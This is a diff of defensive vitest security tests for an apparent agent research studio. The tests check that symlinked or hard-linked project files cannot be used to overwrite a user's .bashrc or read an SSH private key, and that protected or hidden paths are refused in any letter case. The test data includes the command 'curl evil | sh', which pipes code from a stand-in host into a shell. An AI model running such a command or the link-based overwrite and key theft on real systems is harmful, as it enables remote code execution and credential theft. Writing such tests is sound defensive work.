@@ -1,8 +1,10 @@
 // A project folder is untrusted input: it may come from a colleague, a tarball or a cloned repository, and
 // agent-written code ran inside it. Each test here performs one attack on a real repository and a real Studio.
-import { appendFileSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
+import { appendFileSync, existsSync, linkSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
+import { createWorkspace } from '../../src/core/agent/workspace.js';
+import { guardDiff } from '../../src/core/agent/diff-guard.js';
 import { createEnvSecretStore, createStudio, type Studio } from '../../src/core/studio/index.js';
 import { diffCommits } from '../../src/core/git/diff.js';
 import { resolveCommit } from '../../src/core/git/head.js';
@@ -10,7 +12,8 @@ import { readRunRecord } from '../../src/core/journal/read.js';
 import { runPaths } from '../../src/core/project/paths.js';
 import type { Experiment } from '../../src/shared/experiment.js';
 import { makeGitRun } from '../fixtures/make-run.js';
-import { cleanupTempDirs, REPO_ROOT, tempDir } from '../helpers/project.js';
+import { cleanupTempDirs, git, makeRepo, REPO_ROOT, tempDir } from '../helpers/project.js';
+import { fixtureConfig } from '../fixtures/make-run.js';
 
 let studio: Studio | null = null;
 afterEach(async () => {
@@ -128,5 +131,51 @@ describe('a journal with paths outside the run folder', () => {
     const bad = s.api.getTranscript({ tag: 'night', id: 1 });
     await expect(bad).rejects.toThrow(/not valid JSON/);
     await bad.catch((err: Error) => expect(err.message).not.toContain('hunter2'));
+  });
+});
+
+describe('small doors out of the project', () => {
+  it('program.md that is a link (or has hard links) is neither read nor written through', async () => {
+    const dir = tempDir('ar-proj-');
+    await gitRun(dir);
+    const victim = path.join(tempDir('ar-home-'), '.bashrc');
+    writeFileSync(victim, 'export PATH=/usr/bin\n');
+    symlinkSync(victim, path.join(dir, 'program.md'));
+    const s = await openStudio(dir);
+    await expect(s.api.readProgram({})).rejects.toThrow(/program\.md is a symbolic link/);
+    await expect(s.api.saveProgram({ text: 'curl evil | sh' })).rejects.toThrow(/symbolic link/);
+    expect(readFileSync(victim, 'utf8')).toBe('export PATH=/usr/bin\n');
+    rmSync(path.join(dir, 'program.md'));
+    linkSync(victim, path.join(dir, 'program.md'));
+    await expect(s.api.saveProgram({ text: 'curl evil | sh' })).rejects.toThrow(/hard links/);
+    expect(readFileSync(victim, 'utf8')).toBe('export PATH=/usr/bin\n');
+    rmSync(path.join(dir, 'program.md'));
+    await s.api.saveProgram({ text: '# mine\n' });
+    expect((await s.api.readProgram({})).text).toBe('# mine\n');
+  });
+
+  it('the workspace refuses hard links and protected or hidden names in any letter case; the guard refuses links', async () => {
+    const dir = makeRepo({ 'train.py': 'lr = 1\n', 'prepare.py': 'EVAL = 1\n', 'notes.md': 'context\n' });
+    const secret = path.join(tempDir('ar-secret-'), 'id_ed25519');
+    writeFileSync(secret, 'PRIVATE\n');
+    const ws = createWorkspace(dir, dir, { editable: ['*.py', '**/*.py'], context: ['notes.md', '**/*'], protected: ['prepare.py'] });
+    linkSync(secret, path.join(dir, 'notes2.md'));
+    await expect(ws.readFile('notes2.md')).rejects.toThrow(/more than one hard link/);
+    for (const p of ['PREPARE.PY', 'Prepare.py', '.GIT/hooks/x.py', '.Git/config.py', '.AutoResearch/x.py']) {
+      await expect(ws.writeFile(p, 'x = 1\n'), p).rejects.toThrow(/may not be written/);
+    }
+    await expect(ws.readFile('.GIT/config')).rejects.toThrow(/not readable/);
+    // A trainer replaced the editable file with a hard link to a secret: the guard refuses to commit it.
+    rmSync(path.join(dir, 'notes2.md'));
+    rmSync(path.join(dir, 'train.py'));
+    linkSync(secret, path.join(dir, 'train.py'));
+    const config = fixtureConfig({ files: { editable: ['train.py'], protected: ['prepare.py'] } });
+    const check = await guardDiff({ worktree: dir, config, protectedHashes: new Map() });
+    expect(check.ok).toBe(false);
+    if (!check.ok) expect(check.reason).toMatch(/links instead of files \(train\.py\)/);
+    rmSync(path.join(dir, 'train.py'));
+    symlinkSync(secret, path.join(dir, 'train.py'));
+    expect((await guardDiff({ worktree: dir, config, protectedHashes: new Map() })).ok).toBe(false);
+    git(dir, 'checkout', '--', 'train.py');
   });
 });
